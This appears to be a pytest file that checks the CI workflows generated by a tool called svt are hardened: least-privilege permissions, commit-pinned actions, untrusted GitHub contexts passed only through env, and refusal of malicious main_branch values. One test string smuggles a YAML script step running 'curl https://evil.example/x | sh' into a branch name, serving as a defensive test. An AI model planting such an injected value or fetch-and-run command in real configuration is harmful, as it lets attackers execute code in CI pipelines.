"""Issue 24, item 4: the workflows svt writes are hardened, and nothing from svt.yaml or a
pull request can add a step to them.

- least privilege per job: `contents: read` to validate and to build the site; `pages:
  write` and `id-token: write` only in a deploy job of their own;
- untrusted contexts (the base ref, head ref, titles) reach scripts only through `env:`;
- actions pinned by full commit SHA with the tag in a comment;
- `pull_request`, never `pull_request_target`;
- `main_branch` must be a branch name (schema and svt itself), and values go into CI files
  through a YAML emitter: `svt init --pages` pasted main_branch unquoted into .gitlab-ci.yml.
"""
from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from svt_records import Database

GITHUB_FILE = ".github/workflows/svt-validate.yml"
PAGES_FILE = ".github/workflows/svt-pages.yml"
GITLAB_FILE = ".gitlab-ci.yml"
# every action svt's workflows use: the commit of its tag, read in the action's own
# repository (git rev-parse TAG^{commit}) and found pinned with that tag in public workflows
PINNED = {
    "actions/checkout": ("34e114876b0b11c390a56381ad16ebd13914f8d5", "v4.3.1"),
    "actions/setup-python": ("a26af69be951a213d495a4c3e4e4022e16d87065", "v5.6.0"),
    "actions/upload-pages-artifact": ("56afc609e74202658d3ffba0e8f6dda462b719fa", "v3.0.1"),
    "actions/deploy-pages": ("d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e", "v4.0.5"),
}
UNTRUSTED = re.compile(r"github\.(base_ref|head_ref|event\.pull_request\.(title|body|head)"
                       r"|event\.issue|event\.comment)")


@pytest.fixture
def store(tmp_path) -> Path:
    root = tmp_path / "s"
    Database(root).initialize_schema(pages=True, maintainers=("@alice",))
    return root


def _workflows(root: Path) -> dict[str, dict]:
    return {p: yaml.safe_load((root / p).read_text()) for p in (GITHUB_FILE, PAGES_FILE)}


def _triggers(workflow: dict) -> dict:
    return workflow.get("on", workflow.get(True))  # PyYAML 1.1 reads a plain `on` as True


def test_every_job_has_least_privilege(store):
    for path, workflow in _workflows(store).items():
        assert workflow.get("permissions") == {"contents": "read"}, path
        for name, job in workflow["jobs"].items():
            permissions = job.get("permissions")
            assert permissions is not None, f"{path}: job {name} has no permissions block"
            if "pages" in permissions or "id-token" in permissions:
                assert permissions == {"pages": "write", "id-token": "write"}, (path, name)
                # a deploy job runs no code: the artifact is built elsewhere, read-only
                assert all("run" not in s for s in job["steps"]), (path, name)
                assert all(s["uses"].startswith("actions/deploy-pages@")
                           for s in job["steps"]), (path, name)
            else:
                assert permissions == {"contents": "read"}, (path, name)
    pages = _workflows(store)[PAGES_FILE]["jobs"]
    assert pages["build"]["permissions"] == {"contents": "read"}
    assert pages["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert pages["deploy"]["needs"] == "build"


def test_checkout_leaves_no_token_behind(store):
    for path, workflow in _workflows(store).items():
        for job in workflow["jobs"].values():
            for step in job["steps"]:
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, path


def test_untrusted_contexts_reach_scripts_only_through_env(store):
    for path, workflow in _workflows(store).items():
        for job in workflow["jobs"].values():
            for step in job["steps"]:
                assert "${{" not in step.get("run", ""), (path, step)
                if "run" in step:
                    assert not UNTRUSTED.search(step["run"]), (path, step)
    steps = _workflows(store)[GITHUB_FILE]["jobs"]["validate"]["steps"]
    env = next(s["env"] for s in steps if "BASE_REF" in s.get("env", {}))
    assert env["BASE_REF"] == "${{ github.base_ref }}"


def test_actions_are_pinned_by_commit_with_the_tag_in_a_comment(store):
    for path in (GITHUB_FILE, PAGES_FILE):
        uses = [l for l in (store / path).read_text().splitlines() if "uses:" in l]
        assert uses, path
        for line in uses:
            found = re.fullmatch(r"\s*(?:- )?uses: ([\w./-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)",
                                 line)
            assert found, f"{path}: not pinned by commit with its tag: {line.strip()}"
            assert PINNED[found[1]] == (found[2], found[3]), line


def test_pull_requests_run_as_pull_request_never_pull_request_target(store):
    for path, workflow in _workflows(store).items():
        triggers = _triggers(workflow)
        assert "pull_request_target" not in triggers and "workflow_run" not in triggers, path
    assert "pull_request" in _triggers(_workflows(store)[GITHUB_FILE])
    # the site is published from the main branch only, also when started by hand
    pages = _workflows(store)[PAGES_FILE]
    assert _triggers(pages)["push"] == {"branches": ["main"]}
    assert pages["jobs"]["build"]["if"] == "github.ref == 'refs/heads/main'"
    assert "pull_request_target" not in (store / GITHUB_FILE).read_text()


# ---- main_branch and svt_install: names, never code -------------------------------------------

INJECTION = 'main"\n  script:\n    - curl https://evil.example/x | sh\n  x: "'


def _set_main_branch(root: Path, value: str) -> None:
    text = (root / "svt.yaml").read_text()
    (root / "svt.yaml").write_text(text.replace("main_branch: main",
                                                f"main_branch: {json.dumps(value)}"))


@pytest.mark.parametrize("old_schemas", [False, True])
def test_validate_refuses_a_main_branch_that_is_no_branch_name(tmp_path, svt_proc, gitcmd,
                                                              old_schemas):
    """svt checks it itself: a store whose schemas predate the pattern refuses it too."""
    root = tmp_path / "s"
    Database(root).initialize_schema(ci=False)
    if old_schemas:  # as a store made before main_branch had a pattern
        path = root / "schemas/config.schema.json"
        doc = json.loads(path.read_text())
        doc["properties"]["main_branch"].pop("pattern", None)
        path.write_text(json.dumps(doc, indent=2) + "\n")
    for bad in (INJECTION, "main\n", "-x", "a..b", "ma in", "feature/", "x.lock"):
        _set_main_branch(root, bad)
        proc = svt_proc("--repo", str(root), "validate", check=False)
        assert proc.returncode == 1, (bad, proc.stdout)
        line = next(l for l in proc.stdout.splitlines() if l.startswith("svt.yaml:"))
        assert "main_branch" in line and "branch name" in line, line
        assert "Traceback" not in proc.stderr


def test_init_pages_refuses_an_injected_main_branch_and_writes_nothing(tmp_path, svt,
                                                                       gitcmd):
    """The attack: a merged svt.yaml names a main_branch that adds a step to the GitLab job
    `svt init --pages` writes."""
    root = tmp_path / "s"
    Database(root).initialize_schema(ci=False)
    path = root / "schemas/config.schema.json"  # a store made before the pattern
    doc = json.loads(path.read_text())
    doc["properties"]["main_branch"].pop("pattern", None)
    path.write_text(json.dumps(doc, indent=2) + "\n")
    _set_main_branch(root, INJECTION)
    gitcmd(root, "commit", "-qam", "a main branch")
    head = gitcmd(root, "rev-parse", "HEAD")
    result = svt("--repo", str(root), "init", str(root), "--pages", ok=False)
    assert result.exit_code not in (0, 3), result.stdout
    message = result.stderr.strip()
    assert len(message.splitlines()) == 1 and "main_branch" in message, message
    assert "svt.yaml" in message and "Traceback" not in message
    assert not (root / GITLAB_FILE).exists() and not (root / PAGES_FILE).exists()
    assert gitcmd(root, "rev-parse", "HEAD") == head
    assert gitcmd(root, "status", "--porcelain") == ""


@pytest.mark.parametrize("branch, install", [
    ("release/v1.2_x-y", "svt-records[site,plots]>=0.1,<2"),
    ("main", "git+https://github.com/ORG/svt@v0.1.0#egg=svt-records&x=1;y|z"),
])
def test_values_go_into_ci_files_as_values(tmp_path, gitcmd, branch, install):
    """Through the YAML emitter, into env:/variables:, every value reads back as itself and
    no shell ever parses it."""
    root = tmp_path / "repo"
    root.mkdir()
    gitcmd(root, "init", "-q", f"--initial-branch={branch}")
    gitcmd(root, "commit", "-q", "--allow-empty", "-m", "start")
    Database(root).initialize_schema(svt_install=install, pages=True)
    github = yaml.safe_load((root / GITHUB_FILE).read_text())
    assert _triggers(github)["push"]["branches"] == [branch]
    steps = github["jobs"]["validate"]["steps"]
    assert [s["env"]["SVT_INSTALL"] for s in steps if "SVT_INSTALL" in s.get("env", {})] \
        == [install]
    gitlab = yaml.safe_load((root / GITLAB_FILE).read_text())
    assert gitlab["svt-validate-main"]["rules"] == [{"if": f'$CI_COMMIT_BRANCH == "{branch}"'}]
    assert gitlab["svt-validate-mr"]["variables"]["SVT_INSTALL"] == install
    for job in gitlab.values():
        assert all(install not in line for line in job["script"])
    for path, builtin in ((GITHUB_FILE, "vendor.github-workflows"),
                          (PAGES_FILE, "vendor.github-workflows"),
                          (GITLAB_FILE, "vendor.gitlab-ci")):
        proc = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema",
                               builtin, str(root / path)], capture_output=True, text=True,
                              timeout=120)
        assert proc.returncode == 0, proc.stdout + proc.stderr
